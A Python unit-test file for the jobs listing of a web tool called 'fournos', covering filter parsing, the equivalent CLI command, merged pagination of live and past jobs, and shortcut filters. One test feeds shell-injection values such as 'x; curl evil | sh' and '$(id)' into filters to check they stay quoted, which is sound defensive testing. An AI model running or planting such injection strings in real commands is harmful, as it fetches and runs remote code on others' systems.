"""The list of jobs: filters, and rows of live jobs and of the history in one order."""

from __future__ import annotations

import shlex
from datetime import UTC, datetime, timedelta

import pytest

from fournos.history.records import recorded_row
from fournos.web.errors import PageError
from fournos.web.pages import jobs
from fournos.web.pages.jobs import RowPlace, merged, newest, place_of
from fournos.web.runs import filters
from tests.unit.client.world import NS
from tests.unit.web.listed import BEGAN, job, run


@pytest.mark.parametrize(
    ("query", "matches"),
    [
        ({}, True),
        ({"phase": "Running"}, True),
        ({"phase": "active"}, True),
        ({"phase": "Failed"}, False),
        ({"owner": "ann"}, True),
        ({"owner": "an"}, False),
        ({"cluster": "cluster-1"}, True),
        ({"cluster": "cluster-2"}, False),
        ({"label": "team=perf"}, True),
        ({"label": "team=perf, model=x"}, False),
        ({"text": "LLA"}, True),
        ({"text": "70B"}, True),
        ({"text": "x"}, False),
        ({"since": "2030-01-01"}, True),
        ({"since": "2030-01-02"}, False),
        ({"until": "2030-01-01"}, True),
        ({"until": "2029-12-31"}, False),
        ({"until": "2030-01-01T00:00:00Z"}, False),
    ],
)
def test_filters_of_live_jobs(query: dict[str, str], matches: bool) -> None:
    found = filters.read(query)
    one = job("llama-1", displayName="Llama 70B")
    assert found.match(one, filters.names(one)) is matches
    assert found.fields == query


@pytest.mark.parametrize(
    "query",
    [
        {"label": "team"},
        {"label": "a!=b"},
        {"since": "yesterday"},
        {"since": "0001-01-01T00:00+14:00"},
        {"until": "2030-02-30"},
        {"phase": "Odd"},
    ],
)
def test_a_filter_that_cannot_be_read_filters_nothing_and_the_others_do(query: dict[str, str]) -> None:
    found = filters.read({"owner": "ann", **query})
    assert list(found.wrong) == list(query)
    assert found.fields == {"owner": "ann", **query} and found.command == ""
    one, other = job("llama-1"), job("llama-2", owner="bob")
    assert found.match(one, filters.names(one)) and not found.match(other, filters.names(other))


def test_the_last_day_there_is_has_an_end() -> None:
    assert filters.read({"until": "9999-12-31"}).wrong == {}


def test_the_command_lists_the_same() -> None:
    found = filters.read({"phase": "Failed", "owner": "ann", "label": "a=b"})
    assert found.command == "fournos list --all-time --phase Failed --owner ann -l a=b"
    assert filters.read({"text": "x"}).command == ""


@pytest.mark.parametrize("value", ["x; curl evil | sh", "$(id)", "`id`", "a'b", "x\nid", "--help", "a b"])
def test_what_an_address_holds_is_one_word_of_the_command(value: str) -> None:
    label = "a=" + "".join(character for character in value if character not in " \n()")  # no label has those
    found = filters.read({"owner": value, "cluster": value, "label": label})
    options = ["--owner", value, "--cluster", value, "-l", label]
    assert shlex.split(found.command) == ["fournos", "list", "--all-time", *options]
    lexer = shlex.shlex(found.command, posix=True, punctuation_chars=True)
    assert not {";", "|", "&", "(", ")"} & set(lexer), "nothing that a shell would obey"


def test_an_address_of_a_page_that_is_none() -> None:
    with pytest.raises(PageError):
        place_of("yesterday~1")
    assert place_of("") is None
    assert place_of("2030-01-01T00:00:00Z~uid-1") == RowPlace("2030-01-01T00:00:00Z", "uid-1")


def test_pages_show_each_job_once_in_one_order() -> None:
    """Of jobs of the same second, too, which the history orders by other values."""
    live = [job(f"live-{number}", number // 4) for number in range(23)]
    gone = [run(f"gone-{number}", number // 3) for number in range(31)]
    after, shown = None, []
    while True:
        page, after = merged(
            newest(live, filters.Filters(), after, 6), jobs.follows(gone, after, set())[:6], 5
        )
        shown += [row.name for row in page]
        if after is None:
            break
        assert len(page) == 5
    assert sorted(shown) == sorted([f"live-{n}" for n in range(23)] + [f"gone-{n}" for n in range(31)])


def test_enough_of_the_history_is_a_complete_second() -> None:
    runs = [run(f"r{number}", 9 - number // 4) for number in range(12)]
    assert jobs.is_enough(runs, runs, 8)
    assert not jobs.is_enough(runs[:9], runs[:9], 9), "the third second may have more"
    assert not jobs.is_enough(runs, runs[:3], 4)


@pytest.mark.parametrize(("at", "begins"), [(0, 0), (1, 1), (999_999, 1)])
def test_the_second_from_which_rows_are_complete(at: int, begins: int) -> None:
    assert jobs.second(BEGAN + timedelta(microseconds=at)) == f"2030-01-01T00:00:0{begins}Z"


def test_a_row_of_a_job_that_is_gone_leads_to_it_by_its_uid() -> None:
    row = recorded_row(jobs.ListRow, run("one", 0, started_at=BEGAN, ended_at=BEGAN + timedelta(seconds=200)))
    assert (row.path, row.ran, row.live) == (f"/jobs/{NS}/one?uid=uid-one", "3m20s", False)
    assert jobs.ListRow.of(job("a/b")).path == f"/jobs/{NS}/a%2Fb"


def test_shortcuts_are_filters_and_one_is_marked() -> None:
    now = datetime(2030, 1, 9, 12, tzinfo=UTC)
    mine = {each.title: each for each in filters.shortcuts("ann", now)}
    assert mine["My failed"].filters.address() == "/jobs?phase=Failed&owner=ann"
    assert mine["This week"].filters.address() == "/jobs?since=2030-01-02"
    chosen = filters.read({"phase": "Failed"})
    assert [title for title, each in mine.items() if each.chosen(chosen)] == ["Failed"]
    assert [each.title for each in filters.shortcuts("", now)] == ["All", "Active", "Failed", "This week"]
